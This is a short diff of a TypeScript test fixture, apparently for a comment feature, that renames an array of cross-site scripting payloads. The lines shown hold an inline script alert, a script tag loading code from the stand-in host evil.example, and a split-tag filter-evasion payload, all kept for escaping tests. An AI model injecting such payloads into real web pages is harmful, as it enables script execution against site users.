@@ -2,7 +2,7 @@
  * Attack payloads for comments, one per class (after the collections of OWASP, PortSwigger and others); for tests.
  * Shown as text, all of them are harmless.
  */
-export const discussPayloads: readonly (readonly [name: string, words: string])[] = [
+export const commentAttacks: readonly (readonly [name: string, words: string])[] = [
   ['a script', '<script>alert(1)</script>'],
   ['a script from elsewhere', '<script src=//evil.example/x.js></script>'],
   ['a script in two halves', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
